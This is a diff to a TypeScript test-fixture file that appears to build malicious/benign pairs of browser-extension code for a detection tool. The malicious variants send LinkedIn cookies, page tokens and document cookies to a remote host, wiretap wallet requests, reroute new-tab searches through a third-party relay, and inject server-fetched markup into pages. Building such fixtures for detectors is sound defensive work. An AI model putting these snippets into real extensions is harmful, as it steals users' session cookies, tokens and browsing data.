@@ -139,6 +139,95 @@ const visits: Readonly<Record<string, Row>> = {
   },
 };
 
+const searching = (go: string): Pick<Row, 'pages'> => ({
+  pages: {
+    'tab.html': {
+      'tab.js': `const words = document.createElement('input'); document.body.append(words); words.onchange = () => { ${go} };`,
+    },
+  },
+});
+/** Where the search box of a new tab leads. */
+const relays: Readonly<Record<string, Row>> = {
+  'to a relay or an engine': searching(
+    `location.href = 'https://«find.gather.dev¦duckduckgo.com»/?from=tab7&q=' + encodeURIComponent(words.value);`,
+  ),
+  'with a code or without': searching(
+    `location.assign(\`https://find.gather.dev/s?«from=tab7&¦»q=\${encodeURIComponent(words.value)}\`);`,
+  ),
+  'by a tab': searching(
+    `chrome.tabs.update({ url: 'https://find.gather.dev/s?«from=tab7&q¦from»=' + encodeURIComponent(words.value) });`,
+  ),
+  'by a relay or the browser’s own search': searching(
+    `«location.href = 'https://find.gather.dev/s?from=tab7&q=' + words.value¦chrome.search.query({ text: words.value })»;`,
+  ),
+};
+
+const guarded = (first: string): string =>
+  `const request = window.ethereum.request; window.ethereum.request = async (asked) => { ${first} return request.call(window.ethereum, asked); };`;
+const told = `fetch('${far}', { method: 'POST', body: JSON.stringify(asked) })`;
+/** Guards of wallets, profiles that are kept, and servers of the user, beside those who take the same. */
+const guards: Readonly<Record<string, Row>> = {
+  'of a wallet that ask and heed': {
+    ...content(
+      guarded(
+        `«${told};¦const answer = await ${told}; const { verdict } = await answer.json(); if (verdict !== 'good') throw new Error(verdict);»`,
+      ),
+    ),
+    manifest: {
+      content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'], world: 'MAIN' }],
+    },
+    fact: finding('page-calls-wiretapped'),
+  },
+  'of profiles that are kept': {
+    worker: `chrome.runtime.onMessage.addListener(async ({ name }) => { const all = await chrome.cookies.getAll({ domain: 'linkedin.com' }); «await fetch('${far}', { method: 'POST', body: JSON.stringify(all) })¦await chrome.storage.local.set({ [name]: all })»; });`,
+    manifest: {
+      permissions: ['cookies', 'storage'],
+      host_permissions: ['https://*.linkedin.com/*'],
+    },
+    fact: finding('login-cookies-read'),
+  },
+  'of bookmarks on a server of the user': {
+    pages: {
+      'popup.html': {
+        'popup.js': `document.querySelector('#to').onchange = ({ target }) => chrome.storage.local.set({ to: target.value }); document.querySelector('#go').onclick = async () => { const { to } = await chrome.storage.local.get('to'); fetch(«'${far}'¦to» + '/marks', { method: 'PUT', body: JSON.stringify(await chrome.bookmarks.getTree()) }); };`,
+      },
+    },
+    manifest: { permissions: ['bookmarks', 'storage'] },
+    fact: finding('browsing-history-sent'),
+  },
+};
+
+const kept = "const frame = document.createElement('iframe'); document.body.append(frame);";
+const sendKept = (of: string): string =>
+  `fetch('${far}', { method: 'POST', body: ${of}.getItem('token') });`;
+/** Storage of a page that scripts reach through a frame. */
+const framed: Readonly<Record<string, Row>> = {
+  'the window of a frame': content(
+    `${kept} const held = frame.contentWindow; ${sendKept('held.«localStorage¦dataset»')}`,
+  ),
+  'its storage, taken out': content(
+    `${kept} const { localStorage: held } = frame.«contentWindow¦dataset»; ${sendKept('held')}`,
+  ),
+};
+
+/** A document that scripts reach through a frame. */
+const framedPages: Readonly<Record<string, Row>> = {
+  'the document of a frame, by a name': content(
+    `${kept} const { document: held } = frame.contentWindow; fetch('${far}', { method: 'POST', body: held.«cookie¦dir» });`,
+  ),
+};
+
+/** Markup of a server that the background sends to pages. */
+const relayed: Readonly<Record<string, Row>> = {
+  'for a page that loads, or for a click': {
+    ...content(
+      `«chrome.runtime.sendMessage({ kind: 'hello' });¦» chrome.runtime.onMessage.addListener(({ html }) => { document.body.insertAdjacentHTML('beforeend', html); });`,
+    ),
+    worker: `const put = async (tab) => { const answer = await fetch('${far}'); chrome.tabs.sendMessage(tab.id, { html: await answer.text() }); }; chrome.runtime.onMessage.addListener((message, { tab }) => { put(tab); }); chrome.action.onClicked.addListener(put);`,
+    fact: finding('server-markup-in-pages'),
+  },
+};
+
 /** Deeds that are the extension's where nobody asks for them, and the user's where a click or a setting does. */
 export const unaskedPairs: readonly Pair[] = [
   ...pairsOf('posts of the account', onSite(finding('automated-posting'), social, posts)),
@@ -148,5 +237,25 @@ export const unaskedPairs: readonly Pair[] = [
     onSite(finding('hidden-frame-inserted'), shops, siteFrames),
   ),
   ...pairsOf('searches led on', onSite(finding('searches-redirected'), engine, searches)),
+  ...pairsOf(
+    'searches of a new tab',
+    Object.fromEntries(
+      Object.entries(relays).map(([name, row]) => [
+        name,
+        {
+          ...row,
+          manifest: { permissions: ['search'], chrome_url_overrides: { newtab: 'tab.html' } },
+          fact: finding('searches-relayed'),
+        },
+      ]),
+    ),
+  ),
+  ...pairsOf('guards and keepers', guards),
+  ...pairsOf('storage through frames', onSite(finding('page-storage-sent'), everywhere, framed)),
+  ...pairsOf('pages through frames', onSite(finding('page-cookies-sent'), everywhere, framedPages)),
+  ...pairsOf(
+    'markup by the background',
+    onSite(finding('server-markup-in-pages'), everywhere, relayed),
+  ),
   ...pairsOf('visits that are claimed', onSite(finding('affiliate-visits-claimed'), shops, visits)),
 ];
